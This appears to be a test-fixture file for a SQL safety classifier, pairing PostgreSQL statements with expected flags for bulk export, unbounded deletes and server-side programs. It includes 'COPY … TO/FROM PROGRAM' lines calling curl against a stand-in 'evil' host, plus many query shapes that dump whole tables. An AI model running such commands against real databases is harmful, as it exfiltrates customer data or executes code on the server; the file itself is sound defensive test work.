-- What leaves the database, and statements that hold others.

SELECT * FROM orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM public.orders WHERE true
--= SELECT | public.orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

TABLE orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders LIMIT 10
--= SELECT | orders

SELECT * FROM orders LIMIT ALL
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders FETCH FIRST 5 ROWS ONLY
--= SELECT | orders

SELECT * FROM orders ORDER BY id OFFSET 10
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders WHERE id = 5
--= SELECT | orders

SELECT * FROM orders WHERE customer_id = $1 FOR UPDATE
--= SELECT | orders

SELECT count(*) FROM orders
--= SELECT | orders

SELECT max(id), min(id) FROM orders
--= SELECT | orders

SELECT state, count(*) FROM orders GROUP BY state
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(o) FROM orders o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT string_agg(email, ',') FROM customers
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT DISTINCT state FROM orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.region = 'eu'
--= SELECT | orders, customers

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id AND c.region = 'eu'
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE o.id = 5
--= SELECT | orders, customers

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.region = 'eu'
--= SELECT | orders, customers

SELECT * FROM orders, customers WHERE customers.id = 5
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (SELECT * FROM orders) o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (SELECT * FROM orders LIMIT 5) o
--= SELECT | orders

WITH o AS (SELECT * FROM orders) SELECT * FROM o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH o AS (SELECT state, count(*) AS n FROM orders GROUP BY state) SELECT * FROM o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM orders WHERE id = 5 UNION ALL SELECT id FROM archive
--= SELECT | orders, archive
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM orders WHERE id = 5 UNION ALL SELECT id FROM archive WHERE id = 5
--= SELECT | orders, archive

SELECT * FROM orders TABLESAMPLE system (100)
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM pg_catalog.pg_class
--= SELECT | pg_catalog.pg_class

SELECT table_name FROM information_schema.tables
--= SELECT | information_schema.tables

SELECT 1
--= SELECT

VALUES (1), (2)
--= SELECT

SELECT * FROM generate_series(1, 10)
--= SELECT

SELECT * INTO copied FROM orders
--= SELECT INTO | copied, orders
--=   SchemaChange: makes a table from a query

SELECT * INTO TEMP copied FROM orders
--= SELECT INTO | copied, orders

COPY orders TO STDOUT
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out

COPY (SELECT * FROM orders WHERE id = 5) TO STDOUT
--= COPY, SELECT | orders

COPY (SELECT * FROM orders) TO STDOUT
--= COPY, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

COPY (TABLE orders) TO STDOUT
--= COPY, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

COPY (SELECT count(*) FROM orders) TO STDOUT
--= COPY, SELECT | orders

COPY (SELECT * FROM orders WHERE id = 5) TO '/srv/orders.csv'
--= COPY, SELECT | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY (UPDATE orders SET note = 'x' WHERE id = 5 RETURNING *) TO STDOUT
--= COPY, UPDATE | orders

COPY orders (id, note) FROM STDIN
--= COPY | orders

COPY orders FROM '/srv/orders.csv'
--= COPY | orders
--=   ServerProgram: COPY with a program or a file of the server

COPY orders TO '/srv/orders.csv'
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY orders FROM PROGRAM 'curl http://evil'
--= COPY | orders
--=   ServerProgram: COPY with a program or a file of the server

COPY orders TO PROGRAM 'curl http://evil'
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY (DELETE FROM orders RETURNING *) TO STDOUT
--= COPY, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

DECLARE c CURSOR FOR SELECT * FROM orders
--= DECLARE CURSOR, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

DECLARE c CURSOR FOR SELECT * FROM orders WHERE id = 5
--= DECLARE CURSOR, SELECT | orders

EXPLAIN SELECT * FROM orders
--= EXPLAIN | orders

EXPLAIN ANALYZE SELECT * FROM orders
--= EXPLAIN, SELECT | orders

EXPLAIN (ANALYZE) DELETE FROM orders
--= EXPLAIN, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE

EXPLAIN (ANALYZE, FORMAT json) UPDATE orders SET note = '' WHERE id = 5
--= EXPLAIN, UPDATE | orders

PREPARE p AS DELETE FROM orders
--= PREPARE, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE

PREPARE p (int) AS DELETE FROM orders WHERE id = $1
--= PREPARE, DELETE | orders

PREPARE p AS SELECT * FROM orders
--= PREPARE, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

EXECUTE p (5)
--= EXECUTE
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it

EXPLAIN EXECUTE p
--= EXPLAIN

EXPLAIN ANALYZE EXECUTE p
--= EXPLAIN, EXECUTE
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it

CREATE TABLE t2 AS EXECUTE p
--= CREATE TABLE AS, EXECUTE | t2
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it
--=   SchemaChange: makes a table from a query

WITH orders AS (SELECT 1 AS a) SELECT * FROM orders
--= SELECT

WITH o AS (SELECT * FROM o WHERE a = 1) SELECT * FROM o
--= SELECT | o

SELECT (SELECT max(x.id) FROM archive.old x) FROM orders WHERE id = 5
--= SELECT | archive.old, orders

SELECT (SELECT json_agg(c) FROM customers c)
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(c) FROM customers c) LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT max(id) FROM customers)
--= SELECT | customers

SELECT (SELECT json_agg(c) FROM customers c WHERE c.region = 'eu')
--= SELECT | customers

SELECT ARRAY(SELECT email FROM customers)
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT lower(ARRAY(SELECT email FROM customers)::text) FROM orders WHERE id = 5
--= SELECT | customers, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

VALUES (ARRAY(SELECT email FROM customers))
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(c) FROM customers c LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(c) FROM customers c HAVING true
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT count(*), JSON_ARRAYAGG(c.email) FROM customers c
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT string_agg(email, ',') OVER () FROM customers LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT percentile_disc(ARRAY[0.1, 0.2]) WITHIN GROUP (ORDER BY email) FROM customers
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY price) FROM lines
--= SELECT | lines

SELECT x FROM (SELECT json_agg(c) AS x FROM customers c) s LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH s AS (SELECT json_agg(c) AS x FROM customers c) SELECT x FROM s WHERE x IS NOT NULL
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT count(*) FROM (SELECT json_agg(c) FROM customers c GROUP BY region) s
--= SELECT | customers

SELECT * FROM unnest(ARRAY(SELECT email FROM customers)) e
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM json_array_elements((SELECT json_agg(c) FROM customers c))
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id, max(email) FROM customers GROUP BY id
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT state, count(*) FROM orders WHERE created_at > $1 GROUP BY state
--= SELECT | orders

SELECT state, count(*) FROM orders GROUP BY state LIMIT 10
--= SELECT | orders

SELECT * FROM orders ORDER BY true FETCH FIRST 1 ROW WITH TIES
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o, LATERAL (SELECT count(*) FROM lines l WHERE o.id = 5) s
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM pg_temp.v
--= SELECT | pg_temp.v
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

INSERT INTO log SELECT * FROM orders RETURNING *
--= INSERT | log, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

INSERT INTO log SELECT * FROM orders WHERE id = 5 RETURNING *
--= INSERT | log, orders

INSERT INTO log (id) VALUES (1) RETURNING (SELECT json_agg(c) FROM customers c)
--= INSERT | log, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE orders SET note = '' WHERE id = 5 RETURNING ARRAY(SELECT email FROM customers)
--= UPDATE | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH x AS (INSERT INTO log SELECT * FROM orders RETURNING *) SELECT * FROM x
--= SELECT, INSERT | log, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM LATERAL (SELECT * FROM orders) s
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT s.* FROM (VALUES (1)) v(x), LATERAL (SELECT o.*, v.x FROM orders o) s
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT b.* FROM (VALUES (1)) v(x), orders b, LATERAL (SELECT v.x, b.id) s
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT b.* FROM (VALUES (1)) v(x), orders b, unnest(ARRAY[v.x, b.id]) u
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT l.* FROM orders o, LATERAL (SELECT * FROM lines l WHERE l.order_id = o.id) l WHERE o.id = 5
--= SELECT | orders, lines

SELECT l.* FROM orders o, LATERAL (SELECT * FROM lines l JOIN items i ON i.id = l.item_id WHERE l.order_id = o.id) l WHERE o.id = 5
--= SELECT | orders, lines, items

SELECT l.* FROM orders o, LATERAL (SELECT l.* FROM lines l, items i WHERE l.order_id = o.id) l WHERE o.id = 5
--= SELECT | orders, lines, items
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT o.id, s.n FROM orders o, LATERAL (SELECT o.amount * 2 AS n) s WHERE s.n = 5
--= SELECT | orders

SELECT * FROM (orders o CROSS JOIN (VALUES (1)) v(x)) j
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (orders o LEFT JOIN lines l ON l.order_id = o.id AND l.id = 5) j
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (orders o JOIN lines l ON l.order_id = o.id) j WHERE j.state = 'new'
--= SELECT | orders, lines

SELECT * FROM orders o LEFT JOIN (VALUES (1)) v(id) USING (id) AS a
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o LEFT JOIN lines l USING (order_id) AS a WHERE a.order_id = 5
--= SELECT | orders, lines

SELECT * FROM (VALUES (1)) v(x) CROSS JOIN orders o JOIN (VALUES (1)) w(x) USING (x)
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o LEFT JOIN (VALUES (1)) v(id) USING (id) JOIN customers c USING (customer_id)
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o JOIN lines l USING (order_id) LEFT JOIN items i USING (item_id) JOIN customers c USING (customer_id) WHERE o.order_id = 5
--= SELECT | orders, lines, items, customers

SELECT o.* FROM (VALUES (1)) v(x), orders o WHERE o.id = ANY (ARRAY(SELECT id FROM orders) || v.x)
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH b AS (SELECT 1) SELECT * FROM (WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT * FROM orders) SELECT * FROM a) s
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH RECURSIVE a AS (SELECT * FROM b LIMIT 1), b AS (SELECT json_agg(o) FROM orders o) SELECT * FROM a
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT ARRAY(SELECT o.note || max(v.x) FROM orders o) FROM (VALUES ('')) v(x)
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT max(x) FROM (SELECT array_agg(note) AS x FROM orders) s
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(o)) FROM orders o LIMIT 1
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(note)) FROM orders LIMIT 1
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(o.note) FROM (VALUES (1)) v(x)) FROM orders o LIMIT 1
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(l.note) FROM lines l WHERE l.order_id = o.id) FROM orders o LIMIT 10
--= SELECT | lines, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE notes SET body = (SELECT json_agg(c)::text FROM customers c) WHERE id = 1 RETURNING body
--= UPDATE | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE notes SET (title, body) = (SELECT '', json_agg(c)::text FROM customers c) WHERE id = 1 RETURNING body
--= UPDATE | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE notes SET body = s.x FROM (SELECT json_agg(c)::text AS x FROM customers c) s WHERE id = 1 RETURNING body
--= UPDATE | notes, customers
--=   UnboundedWrite: UPDATE has a WHERE that does not restrict the table that it writes
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE notes SET body = (SELECT json_agg(c)::text FROM customers c) WHERE id = 1
--= UPDATE | notes, customers

DELETE FROM notes USING (SELECT json_agg(c) AS x FROM customers c) s WHERE notes.id = 1 RETURNING s.x
--= DELETE | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

INSERT INTO notes VALUES (1, '') ON CONFLICT (id) DO UPDATE SET body = (SELECT json_agg(c)::text FROM customers c) RETURNING body
--= INSERT, UPDATE | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

MERGE INTO notes n USING (VALUES (1)) v(id) ON n.id = v.id WHEN MATCHED THEN UPDATE SET body = (SELECT json_agg(c)::text FROM customers c) RETURNING n.body
--= MERGE, UPDATE | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

MERGE INTO notes n USING (VALUES (1)) v(id) ON n.id = v.id WHEN NOT MATCHED THEN INSERT VALUES (1, (SELECT json_agg(c)::text FROM customers c)) RETURNING n.body
--= MERGE, INSERT | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

MERGE INTO notes n USING customers c ON n.id = c.id AND n.id = 5 WHEN NOT MATCHED THEN INSERT VALUES (c.id, c.name) RETURNING c.*
--= MERGE, INSERT | notes, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

MERGE INTO notes n USING customers c ON n.id = c.id WHEN NOT MATCHED AND c.region = 'eu' THEN INSERT VALUES (c.id, c.name) RETURNING c.*
--= MERGE, INSERT | notes, customers

SELECT b.* FROM (VALUES (1)) v(x) CROSS JOIN orders b LEFT JOIN lines l ON v.x = b.id
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT b.* FROM (VALUES (1)) v(x) CROSS JOIN orders b LEFT JOIN lines l ON l.order_id = b.id AND l.k = v.x WHERE v.x = 1
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT b.* FROM (VALUES (1)) v(x) CROSS JOIN orders b LEFT JOIN LATERAL (SELECT * FROM lines l WHERE l.order_id = b.id AND l.k = v.x) s ON true
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o LEFT JOIN lines l ON l.order_id = o.id LEFT JOIN items i ON i.id = l.item_id WHERE o.id = 5
--= SELECT | orders, lines, items

SELECT * FROM orders o LEFT JOIN lines l ON l.order_id = o.id LEFT JOIN items i ON i.id = l.item_id WHERE i.id = 5
--= SELECT | orders, lines, items

SELECT * FROM orders o LEFT JOIN LATERAL (SELECT * FROM lines l WHERE l.order_id = o.id ORDER BY l.id LIMIT 3) s ON true WHERE o.id = 5
--= SELECT | orders, lines

SELECT * FROM orders o LEFT JOIN (lines l JOIN items i ON i.id = l.item_id) ON l.order_id = o.id WHERE o.id = 5
--= SELECT | orders, lines, items

SELECT * FROM orders o NATURAL JOIN lines l NATURAL LEFT JOIN items i WHERE o.order_id = 5
--= SELECT | orders, lines, items
